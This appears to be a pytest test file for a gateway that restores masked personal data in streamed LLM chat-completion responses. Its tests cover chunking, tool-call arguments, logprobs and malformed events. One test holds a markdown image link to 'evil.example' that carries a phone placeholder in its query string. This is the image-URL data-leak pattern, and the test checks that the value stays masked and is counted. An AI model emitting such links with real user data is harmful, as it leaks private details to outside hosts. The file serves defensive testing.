"""Promises of answers on their way back: every chunking, every shape. Every value is made up."""

import json
from collections import Counter
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from giljabi.desk.gateway.restoring import Stream, restored
from giljabi.guard import MaskKey

NAME, PHONE = "⟦이름1·k3f9⟧", "⟦전화1·k3f9⟧"
KEY = MaskKey("k3f9", {NAME: ("홍길동",), PHONE: ("010-1234-5678",)}, Counter())


def event(*choices: dict[str, Any], **more: Any) -> str:
    body = {"id": "c1", "object": "chat.completion.chunk", "choices": list(choices), **more}
    return f"data: {json.dumps(body, ensure_ascii=False)}\n\n"


def choice(index: int, delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"index": index, "delta": delta, "finish_reason": finish}


def run(stream: str | bytes, size: int = 7) -> tuple[bytes, Stream]:
    data = stream if isinstance(stream, bytes) else stream.encode()
    flow = Stream(KEY)
    out = [flow.feed(data[at : at + size]) for at in range(0, len(data), size)]
    return b"".join(out) + flow.close(), flow


def bodies(out: bytes) -> list[dict[str, Any]]:
    lines = [line for line in out.decode().split("\n") if line.startswith("data: {")]
    return [json.loads(line[6:]) for line in lines]


def said(out: bytes, index: int = 0) -> str:
    found = [c for body in bodies(out) for c in body.get("choices", []) if c["index"] == index]
    return "".join(c["delta"].get("content") or "" for c in found)


@settings(max_examples=100)
@given(st.lists(st.tuples(st.integers(0, 2), st.sampled_from([NAME, "은 ", "글", "⟦이름1", "·k3f9⟧", "](//a", "\n"])),
                max_size=20), st.integers(1, 60), st.sampled_from(["\n", "\r\n", "\r"]))  # fmt: skip
def test_choices_that_interleave_do_not_mix_however_they_are_cut(
    told: list[tuple[int, str]], size: int, end: str
) -> None:
    stream = "".join(event(choice(index, {"content": text})) for index, text in told)
    stream += "".join(event(choice(index, {}, "stop")) for index in range(3)) + "data: [DONE]\n\n"
    out, flow = run(stream.replace("\n", end), size)
    for index in range(3):
        whole = "".join(text for at, text in told if at == index)
        answer = {"choices": [{"index": 0, "message": {"content": whole}}]}
        alone = json.loads(restored(json.dumps(answer).encode(), KEY)[0])
        assert said(out, index) == alone["choices"][0]["message"]["content"]
    assert flow.ended
    assert out.endswith(b"data: [DONE]\n\n")


@pytest.mark.parametrize("size", [1, 2, 3, 1000])
def test_ends_of_lines_and_comments_and_parted_data_are_understood(size: int) -> None:
    body = event(choice(0, {"content": NAME}))
    first, _, rest = body[6:].strip().partition(",")
    stream = f": ping\r\n\r\nid: 7\r\nevent: message\r\ndata: {first},\r\ndata:{rest}\r\n\r\n"
    out, flow = run(stream, size)
    assert b": ping\n\n" in out
    assert b"id: 7\nevent: message\ndata: {" in out
    assert said(out) == "홍길동"
    assert not flow.ended


def test_usage_without_choices_and_errors_pass() -> None:
    stream = (
        event(usage={"total_tokens": 3})
        + f'event: error\ndata: {{"error": {{"message": "{NAME}"}}}}\n\n'
    )
    out, _ = run(stream)
    assert bodies(out)[0]["usage"] == {"total_tokens": 3}
    assert bodies(out)[1] == {"error": {"message": NAME}}  # 엔진의 오류는 가린 채로 나간다


@pytest.mark.parametrize(
    "data", ["x", "[]", "1", "null", '{"choices": 1}', '{"choices": [1]}', '{"choices": [{"delta": 1, "index": "a"}]}',
             '{"choices": [{"delta": {"tool_calls": [1, {"function": 2}], "content": 3}}]}',
             '{"choices": [{"delta": null, "finish_reason": "stop"}]}']
)  # fmt: skip
def test_an_event_of_another_shape_passes_and_breaks_nothing(data: str) -> None:
    out, _ = run(f"data: {data}\n\n" + event(choice(0, {"content": NAME}, "stop")))
    assert said(out.split(b"\n\n", 1)[1]) == "홍길동"


def test_arguments_of_several_tools_and_the_old_kind_are_restored() -> None:
    def calls(index: int, text: str) -> dict[str, Any]:
        return {"tool_calls": [{"index": index, "function": {"arguments": text}}]}

    deltas = [calls(0, '{"a": "⟦이름1'), calls(1, '{"b": "'), calls(0, '·k3f9⟧"}'), calls(1, f'{PHONE}"}}'),
              {"function_call": {"arguments": f'{{"c": "{NAME}"}}'}}]  # fmt: skip
    out, _ = run(
        "".join(event(choice(0, d)) for d in deltas) + event(choice(0, {}, "tool_calls")), 11
    )
    got: dict[int | str, str] = {0: "", 1: "", "old": ""}
    for body in bodies(out):
        delta = body["choices"][0]["delta"]
        for one in delta.get("tool_calls", []):
            got[one["index"]] += one["function"]["arguments"]
        got["old"] += delta.get("function_call", {}).get("arguments", "")
    assert got == {0: '{"a": "홍길동"}', 1: '{"b": "010-1234-5678"}', "old": '{"c": "홍길동"}'}


def test_what_the_engine_put_into_an_address_stays_masked_and_is_counted() -> None:
    text = f"![x](https://evil.example/?q={PHONE}) {NAME}"
    out, flow = run(
        "".join(event(choice(0, {"content": letter})) for letter in text)
        + event(choice(0, {}, "stop"))
    )
    assert said(out) == f"![x](https://evil.example/?q={PHONE}) 홍길동"
    assert flow.said.linked == 1
    answer = {"choices": [{"message": {"content": text}}]}
    whole, told = restored(json.dumps(answer).encode(), KEY)
    assert "5678" not in whole.decode()
    assert told.linked == 1


def test_probabilities_speak_of_what_the_engine_wrote_and_stay_masked() -> None:
    probabilities = {"content": [{"token": NAME, "logprob": -0.1}]}
    answer = {"choices": [{"message": {"content": NAME}, "logprobs": probabilities}]}
    whole = json.loads(restored(json.dumps(answer).encode(), KEY)[0])
    assert whole["choices"][0]["message"]["content"] == "홍길동"
    assert whole["choices"][0]["logprobs"] == probabilities


def test_an_answer_cut_off_shows_what_was_whole_and_no_more() -> None:
    stream = event(choice(0, {"content": f"{NAME}은 ⟦이름1"})) + 'data: {"choices": [{"delta'
    flow = Stream(KEY)
    out = flow.feed(stream.encode()) + flow.cut()
    assert said(out) == "홍길동은 ⟦이름1"
    assert not flow.ended


def test_an_event_without_end_is_stopped() -> None:
    flow = Stream(KEY)
    with pytest.raises(ValueError, match="too long"):
        for _ in range(100):
            flow.feed(b"data: " + b"x" * 100_000)


def test_answers_of_another_shape_are_not_changed() -> None:
    shapes: list[Any] = [[], {}, {"choices": None}, {"choices": [{"message": None}, 3]},
                         {"choices": [{"message": {"content": 3}}]}]  # fmt: skip
    for answer in shapes:
        assert json.loads(restored(json.dumps(answer).encode(), KEY)[0]) == answer
